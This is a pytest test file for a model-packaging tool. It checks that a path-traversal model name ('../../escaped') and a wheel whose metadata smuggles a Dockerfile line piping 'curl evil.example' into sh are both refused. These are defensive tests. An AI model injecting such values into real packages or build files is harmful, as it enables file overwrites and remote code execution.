"""Installer inputs are hostile too: a ``model.json`` whose name is a path cannot make
package-c write outside its bundle, and a wheel whose metadata lies about its model cannot
put text of its choosing into a Dockerfile."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from installer_models import float_model

from tinymlaas.compiler import compile_onnx
from tinymlaas.domain import ArtifactKind
from tinymlaas.errors import InvalidInputError
from tinymlaas.installers.wheel import _write_zip, build_wheel, read_wheel
from tinymlaas.transformers.base import StepContext
from tinymlaas.transformers.package.package_c import PackageC, PackageCParams
from tinymlaas.transformers.package.package_docker import PackageDocker, PackageDockerParams


def test_a_c_source_named_like_a_path_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "c-source"
    compile_onnx(float_model(tmp_path / "m.onnx"), source)
    meta = json.loads((source / "model.json").read_text())
    (source / "model.json").write_text(json.dumps({**meta, "name": "../../escaped"}))
    out, work = tmp_path / "out", tmp_path / "work"
    out.mkdir(), work.mkdir()
    with pytest.raises(InvalidInputError, match=r"model\.json does not describe"):
        PackageC().run(StepContext(input_path=source, input_kind=ArtifactKind.c_source,
                                   params=PackageCParams(measure_elf=False), out_dir=out,
                                   work_dir=work))
    assert not (tmp_path / "escaped.h").exists() and list(out.iterdir()) == []


def test_a_wheel_lying_about_its_model_is_refused(tmp_path: Path) -> None:
    wheel = build_wheel(float_model(tmp_path / "m.onnx"), tmp_path, name="m",
                        version="1.0.0").path
    with zipfile.ZipFile(wheel) as archive:
        files = {n: archive.read(n) for n in archive.namelist() if not n.endswith("RECORD")}
        record = next(n for n in archive.namelist() if n.endswith("RECORD"))
    metadata = json.loads(files["m/metadata.json"])
    metadata["model"]["sha256"] = "0" * 64 + "\nRUN curl evil.example | sh"
    files["m/metadata.json"] = json.dumps(metadata).encode()
    _write_zip(wheel, files, record)  # a RECORD that matches: the wheel agrees with itself
    with pytest.raises(InvalidInputError, match=r"does not describe its model\.onnx"):
        read_wheel(wheel)
    out, work = tmp_path / "out", tmp_path / "work"
    out.mkdir(), work.mkdir()
    with pytest.raises(InvalidInputError):
        PackageDocker().run(StepContext(input_path=wheel, input_kind=ArtifactKind.python_wheel,
                                        params=PackageDockerParams(), out_dir=out,
                                        work_dir=work))
    assert not any("evil" in p.read_text(errors="replace")
                   for p in out.rglob("*") if p.is_file())
